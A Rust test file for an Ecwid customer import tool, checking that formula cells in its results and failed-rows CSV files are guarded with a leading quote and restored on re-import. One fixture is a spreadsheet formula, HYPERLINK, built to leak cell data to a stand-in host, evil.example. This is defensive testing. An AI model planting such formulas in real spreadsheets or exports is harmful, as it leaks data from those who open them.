//! Spreadsheet formulas in cells (CSV injection): the results and failed-rows files write a
//! cell that a spreadsheet would evaluate with a leading `'`, and every import removes that one
//! `'` again, so a failed-rows file imports as it is and stores the original values.

use ecwid_import::input::mapping::Layout;
use ecwid_import::input::presets::Preset;
use ecwid_import::sandbox::SandboxArgs;
use serde_json::{Value, json};

use crate::e2e::{start, store_args};
use crate::presets::{map, mapping, stored};
use crate::support::{Workspace, column, read_csv};

const FAST: [&str; 2] = ["--rate", "60000"];

/// The JSON body of the first row of `csv` mapped with `layout`.
fn body(csv: &str, layout: &Layout) -> Value {
    let (map, _, rows) = map(csv, layout).expect("header maps");
    serde_json::to_value(map.request(&rows[0]).expect("row is valid").request).unwrap()
}

/// In the `ecwid` preset, a `'` before `=`, `+`, `-`, `@` or a tab goes; a `'` before anything
/// else stays, so `''=y` (a `'` before a `'`) keeps both.
#[test]
fn ecwid_preset_removes_the_guard_only() {
    let csv = "email,name,billingPerson.phone,billingPerson.city,billingPerson.postalCode,\
               billingPerson.street,privateAdminNotes,shippingAddresses.0.city,taxId\n\
               ann@example.com,'=x,'+1 555 0100,'s-Hertogenbosch,'0150,'-12.5,'@SUM(A1),''=y,\
               \"'\t=z\"\n";
    let body = body(csv, &Layout::default());
    assert_eq!(
        body["billingPerson"],
        json!({
            "name": "=x", "phone": "+1 555 0100", "city": "'s-Hertogenbosch",
            "postalCode": "'0150", "street": "-12.5"
        })
    );
    assert_eq!(body["privateAdminNotes"], "@SUM(A1)");
    assert_eq!(body["shippingAddresses"][0]["city"], "''=y");
    assert_eq!(body["taxId"], "=z");
}

/// Presets that strip Excel's leading `'` from every value remove one `'` only, guard or not
/// (`''=y` is read as `'=y`), and a mapping file that turns the stripping off still has the
/// guard removed, and only the guard.
#[test]
fn quote_stripping_presets_never_remove_two_quotes() {
    let csv = "user_email,billing_city,billing_postcode,billing_phone,billing_company\n\
               ann@example.com,''=y,'0150,'+1 555 0100,'s-Hertogenbosch\n";
    let woo = Layout {
        preset: Some(Preset::WooCommerce),
        mapping: None,
    };
    assert_eq!(
        body(csv, &woo)["billingPerson"],
        json!({
            "city": "'=y", "postalCode": "0150", "phone": "+1 555 0100",
            "companyName": "s-Hertogenbosch"
        })
    );
    let keep_quotes = Layout {
        preset: Some(Preset::WooCommerce),
        mapping: Some(mapping(
            "strip_leading_quote = false\n[fields]\nemail = \"user_email\"\n",
        )),
    };
    assert_eq!(
        body(csv, &keep_quotes)["billingPerson"],
        json!({
            "city": "''=y", "postalCode": "'0150", "phone": "+1 555 0100",
            "companyName": "'s-Hertogenbosch"
        })
    );
}

/// A header cell the failed-rows file guarded names the column as it was.
#[test]
fn a_guarded_header_cell_names_the_original_column() {
    let (map, _, _) = map(
        "email,'=odd,'plain\nann@example.com,x,y\n",
        &Layout::default(),
    )
    .expect("header maps");
    assert_eq!(map.not_imported(), ["=odd", "'plain"]);
}

/// Rows holding formulas that end invalid or failed: the results and failed-rows files hold
/// them guarded; the failed-rows file imported as it is into another store stores the original
/// values, and guards them again (not twice) where they are still invalid.
#[tokio::test]
async fn failed_rows_file_is_guarded_and_imports_as_it_is() {
    let refusing = start(SandboxArgs {
        refuse_domain: Some("refused.example".into()),
        ..store_args()
    })
    .await;
    let ws = Workspace::new(
        "email,name,billingPerson.phone,billingPerson.city,billingPerson.postalCode,\
         privateAdminNotes\n\
         \"=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Open\"\")\",Ann,,,,\n\
         bob@refused.example,=1+2,+1 555 0100,'s-Hertogenbosch,-12.5,@SUM(A1)\n\
         carol@example.com,=cmd,,,,\n",
    );
    assert_eq!(ws.import(&refusing.api_url(), &FAST).await, 1);
    let rows = ws.results();
    assert_eq!(column(&rows, "status"), ["invalid", "failed", "created"]);
    let formula = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Open\")";
    assert_eq!(rows[0]["email"], format!("'{formula}"));
    assert_eq!(
        stored(&refusing, "carol@example.com")["billingPerson"]["name"],
        "=cmd"
    );
    let failed = read_csv(&ws.failed_output());
    assert_eq!(
        column(&failed, "email"),
        [format!("'{formula}"), "bob@refused.example".into()]
    );
    let bob = &failed[1];
    assert_eq!(
        [
            &bob["name"],
            &bob["billingPerson.phone"],
            &bob["billingPerson.city"]
        ],
        ["'=1+2", "'+1 555 0100", "'s-Hertogenbosch"]
    );
    assert_eq!(
        [&bob["billingPerson.postalCode"], &bob["privateAdminNotes"]],
        ["-12.5", "'@SUM(A1)"]
    );
    refusing.shutdown().await;

    let store = start(store_args()).await;
    let again = Workspace::new(&std::fs::read_to_string(ws.failed_output()).unwrap());
    assert_eq!(again.import(&store.api_url(), &FAST).await, 1);
    let rows = again.results();
    assert_eq!(column(&rows, "status"), ["invalid", "created"]);
    assert_eq!(rows[0]["email"], format!("'{formula}"));
    let bob = stored(&store, "bob@refused.example");
    assert_eq!(
        bob["billingPerson"],
        json!({
            "name": "=1+2", "phone": "+1 555 0100", "city": "'s-Hertogenbosch",
            "postalCode": "-12.5"
        })
    );
    assert_eq!(bob["privateAdminNotes"], "@SUM(A1)");
    let failed_again = read_csv(&again.failed_output());
    assert_eq!(column(&failed_again, "email"), [format!("'{formula}")]);
    store.shutdown().await;
}
